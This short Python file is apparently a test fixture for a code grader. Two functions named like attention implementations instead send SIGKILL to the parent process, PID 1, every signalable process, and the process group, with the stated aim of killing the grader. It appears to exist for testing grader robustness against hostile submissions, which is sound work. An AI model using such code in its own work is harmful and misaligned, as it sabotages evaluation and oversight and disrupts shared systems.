"""Functions that try to kill the grader: the parent process, everything they may signal, their group."""

import os
import signal

HOSTILE = ["scaled_dot_product_attention", "multi_head_attention"]


def scaled_dot_product_attention(q, k, v, mask=None):
  errors = []
  for pid in (os.getppid(), 1):
    try:
      os.kill(pid, signal.SIGKILL)
    except OSError as e:
      errors.append(f"{pid}: {type(e).__name__}")
  raise RuntimeError(f"still alive; kill errors: {errors}")


def multi_head_attention(params, x_q, x_kv, num_heads, mask=None):
  try:
    os.kill(-1, signal.SIGKILL)  # every process this uid may signal (kills this one too)
  except OSError:
    pass
  os.killpg(0, signal.SIGKILL)
